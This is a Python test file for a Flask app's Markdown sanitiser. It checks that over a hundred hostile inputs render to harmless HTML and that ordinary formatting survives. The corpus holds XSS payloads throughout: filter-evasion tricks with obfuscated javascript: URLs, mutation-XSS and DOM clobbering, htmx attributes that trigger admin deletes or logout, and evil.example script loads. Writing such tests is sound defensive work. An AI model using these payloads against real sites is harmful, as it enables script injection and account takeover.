"""The sanitising pipeline: Markdown (which passes raw HTML through) then the nh3 allowlist.

The hostile corpus is judged on the output, the way a browser would read it: every tag and
attribute the HTML parser sees must be allowlisted, and every URL must have a safe scheme.
"""

import re
from html.parser import HTMLParser

import markdown
import pytest

from rsflask import markup
from rsflask.markup import ALLOWED_TAGS, FOOTNOTE_ID, render, split_teaser

FORBIDDEN_ATTRIBUTE_PREFIXES = ("on", "hx-", "data-", "style", "formaction", "xlink")
SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "cite", "background", "poster", "data"}
# What the sanitiser adds or allows besides markup.ALLOWED_ATTRIBUTES: nh3's default generic
# attributes (lang, title) on every tag, rel on links, lazy loading on images.
GENERIC_ATTRIBUTES = {"lang", "title"}
ADDED_ATTRIBUTES = {"a": {"rel"}, "img": {"loading", "decoding"}}
CLASSED_TAGS = set(markup.ALLOWED_CLASSES)
# The WHATWG URL parser strips C0 controls and spaces around a URL and removes tabs and
# newlines anywhere in it; a space left inside the scheme makes the URL relative (harmless).
C0_AND_SPACE = "".join(map(chr, range(0x21)))
TABS_AND_NEWLINES = re.compile(r"[\t\n\r]")
SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


class Elements(HTMLParser):
    """Every start tag with its attributes, every end tag, and the top-level structure."""

    VOID = frozenset({"br", "hr", "img"})

    def __init__(self, html: str) -> None:
        # Attribute values come out with character references decoded, as a browser sees them.
        super().__init__(convert_charrefs=True)
        self.start_tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.end_tags: list[str] = []
        self.depth = 0
        self.lowest_depth = 0
        self.top_level_blocks = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.start_tags.append((tag, attrs))
        if tag in self.VOID:
            self.top_level_blocks += self.depth == 0
        else:
            self.depth += 1

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in self.VOID:
            self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        self.end_tags.append(tag)
        if tag in self.VOID:
            return
        self.depth -= 1
        self.lowest_depth = min(self.lowest_depth, self.depth)
        self.top_level_blocks += self.depth == 0

    def attributes(self, tag: str) -> list[dict[str, str | None]]:
        return [dict(attrs) for name, attrs in self.start_tags if name == tag]

    @property
    def balanced(self) -> bool:
        return self.depth == 0 and self.lowest_depth == 0


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an (already entity-decoded) URL, or None if relative."""
    match = SCHEME.match(TABS_AND_NEWLINES.sub("", value).strip(C0_AND_SPACE).lower())
    return match.group(1) if match else None


# What embeds.py writes around a link that stands alone: its own classes and data attributes,
# which nothing an editor types can produce (the tests in test_embeds.py hold it to that).
EMBED_MARKUP = {
    "figure": {"class", "data-provider", "data-frame-hosts"}
    | {f"data-embed-{name}" for name in ("src", "allow", "sandbox", "title", "button")},
    "a": {"class"},
    "span": {"class"},
}
EMBED_CLASSES = {"embed", "embed-open", "embed-provider", "embed-title", "embed-url"} | {
    f"embed-{kind}" for kind in ("video", "audio", "post", "chart", "card")
}
EMBED_PLAYER = re.compile(r"https://[a-z0-9.-]+/[^\s\"'<>]*")


def is_embed_attribute(tag: str, name: str, value: str | None) -> bool:
    if name not in EMBED_MARKUP.get(tag, set()):
        return False
    if name == "class":
        return set((value or "").split()) <= EMBED_CLASSES
    if name == "data-embed-src":
        return bool(EMBED_PLAYER.fullmatch(value or ""))
    return True


def assert_safe(output: str) -> None:
    """What a browser would run or load from this HTML: nothing but allowlisted markup."""
    elements = Elements(output)
    for tag, attrs in elements.start_tags:
        attrs = [(name, value) for name, value in attrs if not is_embed_attribute(tag, name, value)]
        assert tag in ALLOWED_TAGS, f"tag <{tag}> survived in {output!r}"
        allowed = (
            GENERIC_ATTRIBUTES
            | markup.ALLOWED_ATTRIBUTES.get(tag, set())
            | ADDED_ATTRIBUTES.get(tag, set())
        )
        if tag in CLASSED_TAGS:
            allowed = allowed | {"class"}
        for name, value in attrs:
            assert not name.startswith(FORBIDDEN_ATTRIBUTE_PREFIXES), f"{name} in {output!r}"
            assert name in allowed, f"<{tag} {name}> survived in {output!r}"
            if name == "id":
                assert value and FOOTNOTE_ID.fullmatch(value), f"id={value!r} in {output!r}"
            if name == "class":
                assert set((value or "").split()) <= markup.ALLOWED_CLASSES[tag]
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value or "")
                assert scheme in (None, *SAFE_SCHEMES), f"{name}={value!r} in {output!r}"
    for tag in elements.end_tags:
        assert tag in ALLOWED_TAGS, f"</{tag}> survived in {output!r}"
    lowered = output.lower()
    for dangerous in ("<script", "<style", "<iframe"):
        assert dangerous not in lowered, f"{dangerous} survived in {output!r}"


SVG_SCRIPT_B64 = "PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+"
HTML_SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

SCRIPT_TAGS = {
    "plain": "<script>alert(1)</script>",
    "uppercase": "<SCRIPT>alert(1)</SCRIPT>",
    "mixed-case-with-src": '<ScRiPt src="//evil.example/x.js"></ScRiPt>',
    "with-attributes": '<script type="text/javascript" defer async>alert(1)</script>',
    "split-inside-itself": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "doubled-brackets": "<<script>script>alert(1)<</script>/script>",
    "unclosed": "<script>alert(1)",
    "nested-in-div": "<div><script>alert(1)</script></div>",
    "inline-in-paragraph": "Some *text* <script>alert(1)</script> and more.",
    "newline-in-tag": "<script\n>alert(1)</script\n>",
    "slash-as-space": '<script/xss src="//evil.example/x.js"></script>',
    "in-blockquote": "> quoted <script>alert(1)</script>",
    "in-list-item": "- item <script>alert(1)</script>\n- another",
    "in-heading": "## Title <script>alert(1)</script>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "fenced-code-shows-it-as-text": "```\n<script>alert(1)</script>\n```",
    "indented-code-shows-it-as-text": "    <script>alert(1)</script>",
}

EVENT_HANDLERS = {
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quoted": '<img src="x" onerror="alert(1)">',
    "img-onerror-uppercase": "<IMG SRC=x ONERROR=alert(1)>",
    "img-onerror-mixed-case": "<img src=x oNeRrOr=alert(1)>",
    "img-slashes-as-spaces": "<img/src=x/onerror=alert(1)>",
    "img-newline-before-equals": "<img src=x onerror\n=alert(1)>",
    "img-onload": '<img src="a.png" onload="alert(1)">',
    "img-onerror-entity-encoded-code": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "img-eval-src": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash-onload": "<svg/onload=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "frameset-onload": "<frameset onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "div-onclick": '<div onclick="alert(1)">click</div>',
    "p-onmouseover": '<p onmouseover="alert(1)">hover</p>',
    "a-onclick": '<a href="https://example.com" onclick="alert(1)">x</a>',
    "a-onfocus-autofocus": '<a onfocus=alert(1) autofocus href="#">x</a>',
    "input-onfocus": "<input onfocus=alert(1) autofocus>",
    "select-onfocus": "<select onfocus=alert(1) autofocus><option>x</option></select>",
    "textarea-onfocus": "<textarea onfocus=alert(1) autofocus>x</textarea>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "table-onmouseover": (
        '<table background="javascript:alert(1)" onmouseover=alert(1)>'
        "<tr><td onclick=alert(1)>x</td></tr></table>"
    ),
    "span-onpointerenter": "<span onpointerenter=alert(1)>x</span>",
    "blockquote-onanimationstart": (
        '<blockquote onanimationstart=alert(1) style="animation-name:x">q</blockquote>'
    ),
    "h2-onbeforeprint": "<h2 onbeforeprint=alert(1)>h</h2>",
    "strong-oncopy": "<strong oncopy=alert(1)>x</strong>",
    "li-onmouseenter": "<ul><li onmouseenter=alert(1)>x</li></ul>",
    "code-onwheel": "<code onwheel=alert(1)>x</code>",
    "abbr-onmouseover": '<abbr title="x" onmouseover=alert(1)>x</abbr>',
    "sup-onclick": "<sup id=fnref:1 onclick=alert(1)>1</sup>",
    "form-onsubmit": "<form onsubmit=alert(1)><button>go</button></form>",
    "handler-in-inline-html": "Text with <em onmouseover=alert(1)>emphasis</em> inside.",
}

DANGEROUS_URLS = {
    "md-link-javascript": "[x](javascript:alert(1))",
    "md-link-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "md-link-uppercase": "[x](JAVASCRIPT:alert(1))",
    "md-link-decimal-entity": "[x](&#106;avascript:alert(1))",
    "md-link-hex-entity": "[x](&#x6A;avascript:alert(1))",
    "md-link-padded-entity": "[x](&#0000106avascript:alert(1))",
    "md-link-colon-entity": "[x](javascript&#58;alert(1))",
    "md-link-named-colon": "[x](javascript&colon;alert(1))",
    "md-link-tab-entity": "[x](java&#09;script:alert(1))",
    "md-link-newline-entity": "[x](java&#x0A;script:alert(1))",
    "md-link-url-encoded-letter": "[x](%6Aavascript:alert(1))",
    "md-link-url-encoded-colon": "[x](javascript%3Aalert(1))",
    "md-link-angle-brackets": "[x](<javascript:alert(1)>)",
    "md-link-with-title": '[x](javascript:alert(1) "title")',
    "md-link-data": f"[x](data:text/html;base64,{HTML_SCRIPT_B64})",
    "md-link-vbscript": "[x](vbscript:msgbox(1))",
    "md-link-vbscript-mixed-case": "[x](VbScRiPt:msgbox(1))",
    "reference-link-javascript": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "reference-link-entity": "[x][e]\n\n[e]: &#106;avascript:alert(1)",
    "reference-link-data": "[x][d]\n\n[d]: data:text/html,<script>alert(1)</script>",
    "reference-link-angle-brackets": "[x][e]\n\n[e]: <javascript:alert(1)>",
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-vbscript": "<vbscript:msgbox(1)>",
    "autolink-data": "<data:text/html,alert(1)>",
    "md-image-javascript": "![x](javascript:alert(1))",
    "md-image-data-svg": f"![x](data:image/svg+xml;base64,{SVG_SCRIPT_B64})",
    "md-image-entity": "![x](&#x6A;avascript:alert(1))",
    "reference-image-javascript": "![x][i]\n\n[i]: javascript:alert(1)",
    "html-a-javascript": '<a href="javascript:alert(1)">x</a>',
    "html-a-unquoted": "<a href=javascript:alert(1)>x",
    "html-a-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "html-a-literal-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "html-a-literal-newline": '<a href="jav\nascript:alert(1)">x</a>',
    "html-a-cr-entity": '<a href="jav&#13;ascript:alert(1)">x</a>',
    "html-a-leading-spaces": '<a href="  javascript:alert(1)">x</a>',
    "html-a-leading-control": '<a href="\x01javascript:alert(1)">x</a>',
    "html-a-leading-control-entity": '<a href="&#14;javascript:alert(1)">x</a>',
    "html-a-hex-colon": '<a href="javascript&#x3A;alert(1)">x</a>',
    "html-a-entities-without-semicolons": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'
    ),
    "html-a-decimal-entities-without-semicolons": (
        '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>'
    ),
    "html-a-named-newline": '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    "html-a-named-tab": '<a href="jav&Tab;ascript:alert(1)">x</a>',
    "html-a-padded-colon": '<a href="javascript&#0058;alert(1)">x</a>',
    "html-a-named-colon-mixed-case": '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    "html-a-leading-space-entity": '<a href="&#x20;javascript:alert(1)">x</a>',
    "html-a-nul-inside-scheme": '<a href="java&#0;script:alert(1)">x</a>',
    "html-a-line-separator-before": '<a href="\u2028javascript:alert(1)">x</a>',
    "html-a-https-fragment-decoy": '<a href="javascript:alert(1)#https://x">x</a>',
    "html-img-srcset": '<img srcset="javascript:alert(1) 1x" src="a.png">',
    "md-link-leading-spaces": "[x](  javascript:alert(1))",
    "md-link-leading-tab": "[x](\tjavascript:alert(1))",
    "md-link-backslash-escape": "[x](java\\script:alert(1))",
    "md-link-entity-parentheses": "[x](javascript:alert&#40;1&#41;)",
    "shortcut-reference-link": "[x]: javascript:alert(1)\n\n[x]",
    "html-a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "html-a-data": f'<a href="data:text/html;base64,{HTML_SCRIPT_B64}">x</a>',
    "html-a-file": '<a href="file:///etc/passwd">x</a>',
    "html-a-ftp": '<a href="ftp://evil.example/">x</a>',
    "html-img-javascript": '<img src="javascript:alert(1)">',
    "html-img-data-svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "html-img-vbscript": '<img src="vbscript:msgbox(1)">',
    "blockquote-cite": '<blockquote cite="javascript:alert(1)">q</blockquote>',
}

SVG_AND_MATHML = {
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink-href": (
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'
    ),
    "svg-use-data": f'<svg><use href="data:image/svg+xml;base64,{SVG_SCRIPT_B64}#x"/></svg>',
    "svg-animate-onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg-set-href": '<svg><a><set attributeName="href" to="javascript:alert(1)"/>x</a></svg>',
    "svg-style": "<svg><style>*{background:url(javascript:alert(1))}</style></svg>",
    "svg-foreignobject-iframe": (
        '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'
    ),
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-maction-xlink": (
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'
    ),
    "math-href": '<math href="javascript:alert(1)">x</math>',
    "form-math-namespace-confusion": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
}

STYLES = {
    "style-tag": "<style>body{background:red}</style>",
    "style-tag-uppercase-import": "<STYLE>@import 'http://evil.example/x.css';</STYLE>",
    "style-attribute-url": '<p style="background:url(javascript:alert(1))">x</p>',
    "style-attribute-overlay": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>'
    ),
    "style-attribute-uppercase-expression": '<span STYLE="x:expression(alert(1))">x</span>',
}

FORMS_AND_EMBEDS = {
    "form-with-password": '<form action="https://evil.example"><input name="password"></form>',
    "input": '<input type="text" value="x">',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "button-formaction-in-form": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "textarea-raw-text": "<textarea><img src=x onerror=alert(1)></textarea>",
    "noembed-mxss": '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    "xmp-mxss": '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
    "plaintext": "<plaintext><script>alert(1)</script>",
    "applet": '<applet code="x.class">x</applet>',
}

HTMX_AND_DATA = {
    "hx-get-on-load": '<div hx-get="/admin/delete" hx-trigger="load">x</div>',
    "hx-post-on-link": '<a href="/x" hx-post="/admin/articles/1/delete">x</a>',
    "hx-on-click": '<p hx-on:click="alert(1)">x</p>',
    "hx-on-double-colon": '<p hx-on::load="alert(1)">x</p>',
    "hx-trigger-logout": '<span hx-trigger="load" hx-get="/logout">x</span>',
    "data-hx-get": '<div data-hx-get="/x" data-hx-trigger="load">x</div>',
    "data-hx-on": '<div data-hx-on:click="alert(1)">x</div>',
    "hx-target-swap": '<div hx-vals=\'{"x":1}\' hx-target="body" hx-swap="outerHTML">x</div>',
    "hx-get-on-image": '<img src="a.png" hx-get="/x" alt="a">',
    "hx-boost": '<a href="/x" hx-boost="true">x</a>',
    "hx-headers": '<div hx-headers=\'{"X-CSRFToken":"x"}\'>x</div>',
    "data-attributes": '<div data-foo="bar" data-turbo-method="delete">x</div>',
    "alpine-attributes": '<div x-data="{}" x-init="alert(1)">x</div>',
}

DOM_CLOBBERING = {
    "a-id-csrf-token": '<a id="csrf_token" href="#">x</a>',
    "img-name-location": '<img name="location" src="a.png" alt="a">',
    "form-name": '<form name="getElementById"><input name="x"></form>',
    "div-id-main": '<div id="main">x</div>',
    "li-id-csrf-token": '<ul><li id="csrf_token">x</li></ul>',
    "sup-id-location": '<sup id="location">1</sup>',
    "a-name-body": '<a name="body" href="#">x</a>',
    "attr-list-heading-id": "## Heading {: #csrf_token }",
    "attr-list-paragraph-handlers": 'Paragraph\n{: onclick="alert(1)" id="main" }',
    "attr-list-heading-everything": (
        '## Heading {: #csrf_token .x onclick="alert(1)" style="color:red" hx-get="/x" }'
    ),
    "attr-list-on-link": '[link](http://example.com){: onclick="alert(1)" name="location" }',
    "attr-list-on-image": '![x](a.png){: onerror="alert(1)" data-x="1" }',
}

BROKEN_MARKUP = {
    "img-unclosed-comment-tail": "<img src=x onerror=alert(1)//",
    "a-unclosed-with-handler": '<a href="x" onmouseover="y"',
    "img-unclosed-quoted": '<img src="x" onerror="alert(1)"',
    "img-unterminated-quote": '<img src=x onerror="alert(1)',
    "quotes-confusion": '<img """><script>alert(1)</script>">',
    "tag-inside-attribute-area": '<a href="x"<img src=x onerror=alert(1)>>',
    "double-open-bracket": "<<img src=x onerror=alert(1)>",
    "backtick-value": "<img src=`x` onerror=alert(1)>",
    "tag-inside-tag": "<p <img src=x onerror=alert(1)>>",
    "div-unclosed-handler": '<div title="a" onclick=alert(1) x="">text',
    "stray-closing-tags": "</div></p><img src=x onerror=alert(1)></span>",
}

COMMENTS_AND_CDATA = {
    "comment-with-script": "<!-- <script>alert(1)</script> -->",
    "conditional-comment-script": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "conditional-comment-img": "<!--[if gte IE 4]><img src=x onerror=alert(1)><![endif]-->",
    "comment-bang-close": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment-abrupt-close": "<!--><img src=x onerror=alert(1)>-->",
    "comment-inside-attribute": '<a title="<!--" href="#">x</a><img src=x onerror=alert(1)>-->',
    "cdata-script": "<![CDATA[<script>alert(1)</script>]]>",
    "cdata-in-svg": "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "processing-instruction": '<?xml version="1.0"?><script>alert(1)</script>',
    "doctype": "<!DOCTYPE html><script>alert(1)</script>",
}

MARKDOWN_FORMS = {
    "footnote-with-img-payload": "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "footnote-with-js-link": "Text[^1]\n\n[^1]: [y](javascript:alert(1))",
    "footnote-label-injection": (
        'Text[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: note'
    ),
    "footnote-label-clobbering": "Text[^csrf_token]\n\n[^csrf_token]: note",
    "abbreviation-title-html": "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML here",
    "abbreviation-title-quote-break": '*[HTML]: " onmouseover="alert(1)\n\nHTML here',
    "table-with-payloads": (
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"
    ),
    "table-with-script": "| a |\n|---|\n| <script>alert(1)</script> |",
    "table-header-style": '| <span style="color:red">a</span> |\n|---|\n| b |',
    "definition-list": "Term\n: <script>alert(1)</script> <img src=x onerror=alert(1)>",
    "fenced-code-attributes": '```{ .python onclick="alert(1)" #csrf_token }\nx = 1\n```',
    "fenced-code-language-injection": '```python" onmouseover="alert(1)\nx = 1\n```',
    "markdown-inside-html": '<div markdown="1">[x](javascript:alert(1))</div>',
    "link-title-injection": '[x](http://a.example "\\" onmouseover=\\"alert(1)")',
    "image-alt-injection": '![" onerror="alert(1)](a.png)',
    "link-text-with-html": "[<img src=x onerror=alert(1)>](https://example.com)",
    "emphasis-around-script": "*<script>alert(1)</script>*",
    "toc-marker-with-payload-heading": "[TOC]\n\n# <img src=x onerror=alert(1)>\n\n## Next",
    "heading-text-clobbering-ids": "[TOC]\n\n## csrf_token\n\n## location",
    "setext-heading-with-handler": '<h1 onclick="alert(1)">big</h1>\n===',
}

CORPUS = {
    **{f"script/{k}": v for k, v in SCRIPT_TAGS.items()},
    **{f"handler/{k}": v for k, v in EVENT_HANDLERS.items()},
    **{f"url/{k}": v for k, v in DANGEROUS_URLS.items()},
    **{f"svg-mathml/{k}": v for k, v in SVG_AND_MATHML.items()},
    **{f"style/{k}": v for k, v in STYLES.items()},
    **{f"embed/{k}": v for k, v in FORMS_AND_EMBEDS.items()},
    **{f"htmx/{k}": v for k, v in HTMX_AND_DATA.items()},
    **{f"clobber/{k}": v for k, v in DOM_CLOBBERING.items()},
    **{f"broken/{k}": v for k, v in BROKEN_MARKUP.items()},
    **{f"comment/{k}": v for k, v in COMMENTS_AND_CDATA.items()},
    **{f"markdown/{k}": v for k, v in MARKDOWN_FORMS.items()},
}


def test_the_hostile_corpus_is_large():
    assert len(CORPUS) >= 110


@pytest.mark.parametrize("source", CORPUS.values(), ids=CORPUS.keys())
def test_hostile_input_renders_to_harmless_html(source):
    assert_safe(render(source))


@pytest.mark.parametrize("source", CORPUS.values(), ids=CORPUS.keys())
def test_hostile_input_inside_a_paragraph_renders_to_harmless_html(source):
    """The same payloads after some prose, where Markdown treats raw HTML as inline."""
    assert_safe(render(f"An ordinary sentence. {source} And another."))


def test_the_checker_itself_rejects_what_it_should():
    """The assertions above would catch each kind of leak if the sanitiser let one through."""
    leaks = [
        "<script>x</script>",
        '<p onclick="x">a</p>',
        '<div hx-get="/x">a</div>',
        '<div data-x="1">a</div>',
        '<p style="color:red">a</p>',
        '<a href="jav&#x09;ascript:x">a</a>',
        '<a href=" JAVASCRIPT:x">a</a>',
        '<img src="data:image/png;base64,AA">',
        '<p id="main">a</p>',
        "<form></form>",
    ]
    for leak in leaks:
        with pytest.raises(AssertionError):
            assert_safe(leak)


# What editors need survives.


def test_paragraphs_and_emphasis_survive():
    html = render("First *soft* and **strong**.\n\nSecond ~~no~~ paragraph.")
    assert "<p>First <em>soft</em> and <strong>strong</strong>.</p>" in html
    assert html.count("<p>") == 2


@pytest.mark.parametrize("level", [2, 3, 4])
def test_subheadings_survive_the_sanitiser(level):
    source = f"<h{level}>Sub heading</h{level}>"
    assert markup.sanitise(source) == source


@pytest.mark.parametrize("hashes", ["#", "##", "###"])
def test_a_markdown_heading_becomes_a_subheading(hashes):
    html = render(f"{hashes} Sub heading")
    (tag,) = [tag for tag, _ in Elements(html).start_tags]
    assert tag in {"h2", "h3", "h4"}
    assert html == f"<{tag}>Sub heading</{tag}>"


def test_a_top_level_heading_never_makes_a_second_h1():
    """The page has the headline as its only h1; a body's h1 keeps its words only."""
    for source in ("# Second headline", "<h1>Second headline</h1>", "Second headline\n==="):
        html = render(source)
        assert "<h1" not in html
        assert "Second headline" in html


def test_bulleted_and_numbered_lists_survive():
    html = render("- one\n- two\n\n3. three\n4. four")
    elements = Elements(html)
    assert [tag for tag, _ in elements.start_tags] == ["ul", "li", "li", "ol", "li", "li"]
    assert elements.attributes("ol") == [{"start": "3"}]


def test_blockquote_survives():
    assert render("> Quoted words.") == "<blockquote>\n<p>Quoted words.</p>\n</blockquote>"


@pytest.mark.parametrize(
    "target",
    ["https://example.com/a?b=1", "http://example.com/", "mailto:desk@example.com", "/sections/x"],
)
def test_links_to_safe_targets_keep_their_href_and_get_rel_noopener(target):
    # Inside a sentence: a link alone in its paragraph becomes an embed (test_embeds.py).
    elements = Elements(render(f"See [a link]({target}) here."))
    assert elements.attributes("a") == [{"href": target, "rel": "noopener noreferrer"}]


def test_a_link_title_survives():
    elements = Elements(render('See [a](https://example.com "More about it") here.'))
    assert elements.attributes("a")[0]["title"] == "More about it"


def test_an_editor_cannot_set_rel_on_a_link():
    elements = Elements(render('See <a href="https://example.com" rel="opener">a</a> here.'))
    assert elements.attributes("a") == [
        {"href": "https://example.com", "rel": "noopener noreferrer"}
    ]


def test_images_keep_src_and_alt_and_load_lazily():
    (attributes,) = Elements(render('![A harbour at dawn](/photos/x.webp "Dawn")')).attributes(
        "img"
    )
    assert attributes["src"] == "/photos/x.webp"
    assert attributes["alt"] == "A harbour at dawn"
    assert attributes["title"] == "Dawn"
    assert attributes["loading"] == "lazy"


def test_tables_survive():
    html = render("| Country | GDP |\n|---|---:|\n| A | 1 |\n| B | 2 |")
    tags = {tag for tag, _ in Elements(html).start_tags}
    assert {"table", "thead", "tbody", "tr", "th", "td"} <= tags
    assert ">Country</th>" in html
    assert ">2</td>" in html


def test_footnotes_keep_their_ids_links_and_class():
    html = render("A claim.[^1]\n\n[^1]: The source.")
    elements = Elements(html)
    assert elements.attributes("sup") == [{"id": "fnref:1"}]
    assert {"id": "fn:1"} in elements.attributes("li")
    assert {"class": "footnote"} in elements.attributes("div")
    hrefs = [a["href"] for a in elements.attributes("a")]
    assert hrefs == ["#fn:1", "#fnref:1"]
    assert "The source." in html


def test_named_footnotes_keep_their_ids():
    elements = Elements(render("A claim.[^source]\n\n[^source]: The source."))
    assert elements.attributes("sup") == [{"id": "fnref:source"}]
    assert {"id": "fn:source"} in elements.attributes("li")


@pytest.mark.parametrize(
    "source",
    [
        '<p id="main">Kept words</p>',
        '<div id="main">Kept words</div>',
        '<ul><li id="main">Kept words</li></ul>',
        '<sup id="main">Kept words</sup>',
        "## Kept words {: #main }",
    ],
)
def test_an_id_written_by_an_editor_is_dropped_but_the_text_stays(source):
    html = render(source)
    assert "id=" not in html
    assert "Kept words" in html


def footnote_links_and_ids(html: str) -> tuple[set[str], set[str]]:
    elements = Elements(html)
    ids = {dict(attrs).get("id") for _, attrs in elements.start_tags} - {None}
    targets = {a["href"][1:] for a in elements.attributes("a") if a["href"].startswith("#")}
    return targets, ids


@pytest.mark.parametrize("label", ["1", "source", "ref-2", "é"])
def test_every_footnote_link_has_a_target(label):
    html = render(f"Claim[^{label}] and again[^{label}].\n\n[^{label}]: The source.")
    targets, ids = footnote_links_and_ids(html)
    assert len(targets) == 3
    assert targets <= ids


@pytest.mark.parametrize("label", ["a.b", "note one", "x" * 41])
def test_every_footnote_link_has_a_target_whatever_the_label(label):
    html = render(f"Claim[^{label}].\n\n[^{label}]: The source.")
    targets, ids = footnote_links_and_ids(html)
    assert targets
    assert targets <= ids


def test_an_editor_cannot_add_arbitrary_classes():
    html = render('<div class="footnote admin-only">x</div><p class="hidden">y</p>')
    assert Elements(html).attributes("div") == [{"class": "footnote"}]
    assert Elements(html).attributes("p") == [{}]


def test_fenced_code_blocks_survive_with_an_allowed_language_class():
    html = render('```python\nprint("<b>hi</b>")\n```')
    assert (
        html == '<pre><code class="language-python">print("&lt;b&gt;hi&lt;/b&gt;")\n</code></pre>'
    )


def test_code_block_with_another_language_loses_only_its_class():
    html = render("```ruby\nputs 1\n```")
    assert "ruby" not in html
    assert Elements(html).attributes("code") in ([{}], [{"class": ""}])
    assert "puts 1" in html


def test_inline_code_survives():
    assert render("Use `rm -rf` carefully.") == "<p>Use <code>rm -rf</code> carefully.</p>"


def test_smart_quotes_dashes_and_ellipses():
    html = render("\"Quoted\" and 'single' -- and --- and...")
    assert "\u201cQuoted\u201d" in html
    assert "\u2018single\u2019" in html
    assert "\u2013" in html  # en dash
    assert "\u2014" in html  # em dash
    assert "\u2026" in html  # ellipsis


def test_raw_html_passed_through_by_markdown_is_sanitised():
    """Python-Markdown keeps raw HTML as is; the sanitiser is what removes the handler."""
    source = '<div onclick="steal()">Click me</div>'
    raw = markdown.markdown(source, extensions=markup.MARKDOWN_EXTENSIONS)
    assert "onclick" in raw
    assert render(source) == "<div>Click me</div>"


# split_teaser


def teaser_bodies() -> dict[str, str]:
    return {
        "paragraphs": "One.\n\nTwo.\n\nThree.\n\nFour.",
        "list": "Intro.\n\n- a\n- b\n\n    continued b\n\n- c\n\nAfter.",
        "nested-list": "Intro.\n\n- a\n    - a1\n    - a2\n- b\n\n1. x\n2. y\n\nEnd.",
        "table": "Intro.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nAfter the table.",
        "blockquote": "> One.\n>\n> Two.\n>\n> Three.\n\nAfter.\n\nLast.",
        "hr": "One.\n\n---\n\nTwo.\n\n***\n\nThree.",
        "image-and-br": "![a](a.png)\n\nLine one  \nline two\n\n<hr>\n\nEnd.",
        "footnotes": "Claim.[^1]\n\nMore.\n\n[^1]: Source.",
        "code": "Intro.\n\n```\n<p>not a tag</p>\n```\n\nAfter.",
        "raw-html": "<div><p>a</p><p>b</p></div>\n\n<p>c</p>\n\nd",
        "one-block": "Only one.",
        "empty": "",
    }


@pytest.mark.parametrize("blocks", [1, 2, 3, 4, 10])
@pytest.mark.parametrize("body", teaser_bodies().values(), ids=teaser_bodies().keys())
def test_split_teaser_lead_and_rest_make_the_whole(body, blocks):
    html = render(body)
    lead, rest = split_teaser(html, blocks)
    assert lead + rest == html


@pytest.mark.parametrize("blocks", [1, 2, 3])
@pytest.mark.parametrize("body", teaser_bodies().values(), ids=teaser_bodies().keys())
def test_split_teaser_halves_are_each_well_formed(body, blocks):
    lead, rest = split_teaser(render(body), blocks)
    lead_elements = Elements(lead)
